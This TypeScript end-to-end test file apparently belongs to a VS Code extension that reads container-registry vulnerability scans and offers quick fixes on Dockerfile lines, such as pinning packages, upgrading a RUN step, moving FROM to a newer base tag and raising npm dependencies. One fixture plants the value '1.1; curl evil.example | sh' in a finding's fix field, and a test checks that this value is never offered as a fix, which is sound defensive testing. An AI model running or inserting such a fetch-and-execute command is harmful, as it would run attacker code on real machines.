import assert from 'node:assert/strict';
import { imageManifest } from '../bed/emulator/synthesize';
import type { Finding } from '../bed/emulator/model';
import { enhancedFinding, layersOf, historyStep as step } from './enhancedFinding';
import { startExplorerScene } from './explorerScene';
import type { ExplorerScene } from './explorerScene';
import { picture, usualEnds } from './fixture';

const HOST = '123456789012.dkr.ecr.us-east-1.amazonaws.com';
const BASE = `${HOST}/base/node:20.11-bookworm`;
const RUN = 'apt-get update && apt-get install -y';

const DOCKERFILE = `ARG TAG=20.11-bookworm
FROM ${HOST}/base/node:\${TAG}
RUN ${RUN} \\
      curl \\
      openssl \\
    && rm -rf /var/lib/apt/lists/*
COPY app /app
CMD ["/app"]
`;

const WEB_DOCKERFILE = `FROM ${BASE}
WORKDIR /app
COPY package.json package-lock.json ./
RUN npm ci
`;
const PACKAGE_LOCK = JSON.stringify(
  {
    ...{ name: 'web', lockfileVersion: 3 },
    packages: {
      '': { dependencies: { 'left-trim': '^1.2.0' } },
      'node_modules/left-trim': { version: '1.2.0' },
    },
  },
  undefined,
  2,
);

function findingsOf([base = '', packages = '']: readonly string[]): readonly Finding[] {
  const inRun = { version: '1.0-1', layer: packages };
  const curl = { name: 'curl', version: '7.88.1-10+deb12u5', fix: '0:7.88.1-10+deb12u8', layer: packages };
  return [
    enhancedFinding('CVE-1990-50001', 'HIGH', curl),
    enhancedFinding('CVE-1990-50002', 'CRITICAL', { name: 'nghttp2', fix: '0:1.52.0-1+deb12u2', ...inRun }),
    enhancedFinding('CVE-1990-50003', 'HIGH', {
      name: 'openssl',
      fix: '1.1; curl evil.example | sh',
      ...inRun,
    }),
    enhancedFinding('CVE-1990-50004', 'HIGH', { name: 'libxml2', ...inRun }),
    enhancedFinding('CVE-1990-50005', 'CRITICAL', {
      name: 'zlib',
      version: '1:1.2.13',
      fix: '1:1.3.1',
      layer: base,
    }),
  ];
}

/** A scan with so many findings, all of which are fixed. */
const scanOf = (critical: number, high: number) => ({
  kind: 'enhanced' as const,
  findings: Array.from({ length: critical + high }, (_, nth) =>
    enhancedFinding(`CVE-1990-${51_000 + nth}`, nth < critical ? 'CRITICAL' : 'HIGH', {
      ...{ name: `library-${nth}`, version: '1-1', fix: '1-2' },
    }),
  ),
});

describe('a finding on a line of a Dockerfile', function () {
  this.timeout(90_000);
  let scene: ExplorerScene;

  before(async function () {
    const content = imageManifest({
      platform: { os: 'linux', architecture: 'amd64' },
      created: new Date(),
      labels: {
        'org.opencontainers.image.base.name': BASE,
        'org.opencontainers.image.base.digest': `sha256:${'0'.repeat(64)}`,
      },
      steps: [
        step('/bin/sh -c #(nop) ADD file:0a in / ', 'base'),
        step(`RUN /bin/sh -c ${RUN} curl openssl && rm -rf /var/lib/apt/lists/* # buildkit`, 'packages'),
        step('COPY app /app # buildkit', 'app'),
        step('CMD ["/app"]'),
      ],
    });
    const ofNode = enhancedFinding('CVE-1990-50006', 'HIGH', {
      ...{ name: 'left-trim', version: '1.2.0', fix: '1.2.1' },
      nodePath: 'app/node_modules/left-trim/package.json',
    });
    const tagged = (tag: string, critical: number, high: number, pushedDaysAgo: number) => ({
      ...{ repository: 'base/node', tags: [tag], pushedDaysAgo },
      scan: scanOf(critical, high),
    });
    scene = await startExplorerScene(this, {
      settings: {
        'ecrExplorer.registries': [{ profile: 'dev', region: 'us-east-1', label: 'Development' }],
        'ecrExplorer.dockerfileImages': { Dockerfile: `${HOST}/shop:1.0`, 'web/*': `${HOST}/web:2.0` },
        // What a test changes is taken back, and nothing stands over the lines that are clicked.
        ...{ 'files.autoSave': 'off', 'editor.stickyScroll.enabled': false },
        'editor.lightbulb.enabled': 'off',
      },
      files: {
        Dockerfile: DOCKERFILE,
        'web/web.Dockerfile': WEB_DOCKERFILE,
        'web/package.json': '{ "name": "web", "dependencies": { "left-trim": "^1.2.0" } }\n',
        'web/package-lock.json': PACKAGE_LOCK,
      },
      seed: (emulator) =>
        emulator.seed({
          repositories: [{ name: 'shop' }, { name: 'web' }, { name: 'base/node' }],
          images: [
            {
              ...{ repository: 'shop', tags: ['1.0'], content },
              scan: { kind: 'enhanced', findings: findingsOf(layersOf(content.manifest)) },
            },
            { repository: 'web', tags: ['2.0'], scan: { kind: 'enhanced', findings: [ofNode] } },
            tagged('20.11-bookworm', 2, 9, 90),
            tagged('20.18-bookworm', 1, 4, 30),
            tagged('20.19-bookworm', 0, 3, 3),
            tagged('20.19-alpine', 0, 0, 3),
            tagged('22.1-bookworm', 0, 0, 2),
          ],
        }),
    });
    const { workbench } = scene.editor;
    const { editors, tree } = workbench;
    await workbench.openView('ECR Explorer');
    await editors.open('Dockerfile');
    await editors.codeLens('shop:1.0: 2 critical').click();
    await tree.row('CRITICAL').waitFor();
    await editors.open('Dockerfile');
    await editors.squiggles('warning').first().waitFor();
  });
  usualEnds(() => scene, { free: true });

  it('is mended by pinning the package, which the menu says exactly', async () => {
    const { workbench, page } = scene.editor;
    const offered = await workbench.editors.quickFixes('curl', 'Pin curl');
    await picture(workbench, 'fixes-run');
    assert.equal(offered[0], 'Pin curl to 7.88.1-10+deb12u8', offered.join('\n'));
    for (const fix of [
      'Pin curl to 7.88.1-10+deb12u8',
      'Upgrade curl in this RUN',
      'Rebuild without the cache: this RUN ran before the fix',
    ])
      assert.ok(offered.includes(fix), offered.join('\n'));
    await page.keyboard.press('Escape');
    await workbench.editors.quickFix('curl', 'Pin curl to 7.88.1-10+deb12u8');
    await workbench.editors.line('curl=7.88.1-10+deb12u8').waitFor();
    await startOver('curl=7.88.1');
  });

  it('is mended with all others of its RUN, shown before it is done', async () => {
    const { workbench } = scene.editor;
    await workbench.editors.quickFix('curl', 'Upgrade nghttp2, curl in this RUN');
    await workbench.notifications.told('Upgrade nghttp2, curl in this RUN');
    await picture(workbench, 'fixes-preview');
    await workbench.page.locator('.editor-actions').getByRole('button', { name: 'Make This Change' }).click();
    await workbench.editors
      .line("--only-upgrade '?source-package(^curl$)' '?source-package(^nghttp2$)'")
      .waitFor();
    await workbench.editors.line('&& rm -rf').waitFor();
    await picture(workbench, 'fixes-upgraded');
    await startOver('--only-upgrade');
  });

  it('has no fix of its own where the fixed version is none', async () => {
    const { workbench } = scene.editor;
    const offered = await workbench.editors.quickFixes('openssl', 'in this RUN');
    assert.ok(!offered.some((fix) => /evil|Pin openssl|Upgrade.*openssl/.test(fix)), offered.join('\n'));
  });

  it('of the base image leads to a rebuild, a newer tag, or an upgrade where packages are installed', async () => {
    const { workbench, page } = scene.editor;
    const before = scene.count();
    const offered = await workbench.editors.quickFixes('FROM', 'Move FROM');
    await picture(workbench, 'fixes-base');
    assert.deepEqual(mending(offered), [
      'Rebuild: base/node:20.11-bookworm has moved since this image was built',
      'Move FROM to a newer tag of base/node…',
      'Upgrade zlib of the base image in the RUN of line 3',
    ]);
    assert.ok(scene.count() - before <= 2, 'what nobody asked for costs little');
    await page.keyboard.press('Escape');
    await workbench.editors.quickFix('FROM', 'Rebuild: base/node');
    await workbench.quickInput.titled('Build and Push Dockerfile');
    await workbench.quickInput.cancel();
  });

  it('of the base image is mended by a newer tag, chosen by what its own scan found', async () => {
    const { workbench, page } = scene.editor;
    await workbench.editors.quickFix('FROM', 'Move FROM to a newer tag');
    await workbench.quickInput.option('20.19-bookworm').waitFor();
    await picture(workbench, 'fixes-candidates');
    const options = await workbench.quickInput.options();
    assert.equal(options.length, 2, options.join('\n'));
    assert.match(options[0] ?? '', /20\.19-bookworm.*3 high · pushed 3 days ago.*2 critical, 6 high fewer/);
    assert.match(options[1] ?? '', /20\.18-bookworm.*1 critical, 4 high/);
    await workbench.quickInput.pick('20.19-bookworm');
    await workbench.editors.line('ARG TAG=20.19-bookworm').waitFor();
    await startOver('ARG TAG=20.19-bookworm');
    const offered = await workbench.editors.quickFixes('FROM', 'Move FROM');
    const direct = 'Move FROM to base/node:20.19-bookworm (0 critical, 3 high; was 2, 9)';
    assert.ok(offered.includes(direct), offered.join('\n'));
    await picture(workbench, 'fixes-base-known');
    await page.keyboard.press('Escape');
    assert.equal(scene.count('BatchGetImage'), 1, 'of the image itself, once');
  });

  it('of what FROM names now leads to a newer tag too', async () => {
    const { workbench } = scene.editor;
    await workbench.editors.open('web.Dockerfile');
    const offered = await workbench.editors.quickFixes('FROM', 'Move FROM');
    assert.deepEqual(mending(offered), [
      'Move FROM to base/node:20.19-bookworm (0 critical, 3 high; was 2, 9)',
      'Move FROM to a newer tag of base/node…',
    ]);
  });

  it('of a language’s package is mended in the manifest, from the lock file and the Dockerfile too', async () => {
    const { workbench, page } = scene.editor;
    const { editors } = workbench;
    const fix = 'Raise left-trim to 1.2.1 in package.json';
    assert.deepEqual(mending(await editors.quickFixes('RUN npm ci', 'Raise')), [fix]);
    await page.keyboard.press('Escape');
    await editors.open('package-lock.json');
    await editors.quickFix('"version": "1.2.0"', fix);
    await workbench.notifications.told('The lock file follows with the next install');
    await picture(workbench, 'fixes-manifest');
    await workbench.notifications.press('The lock file follows', 'Make This Change');
    await editors.tab('package.json').waitFor();
    await editors.line('"left-trim": "^1.2.1"').waitFor();
  });

  /** @param text what is to be gone */
  async function startOver(text: string): Promise<void> {
    const { workbench } = scene.editor;
    await workbench.palette('File: Revert File');
    await workbench.editors.line(text).waitFor({ state: 'detached' });
  }
});

/** Findings may be ignored too, where nothing mends them. */
const mending = (offered: readonly string[]): readonly string[] =>
  offered.filter((fix) => !fix.startsWith('Ignore'));
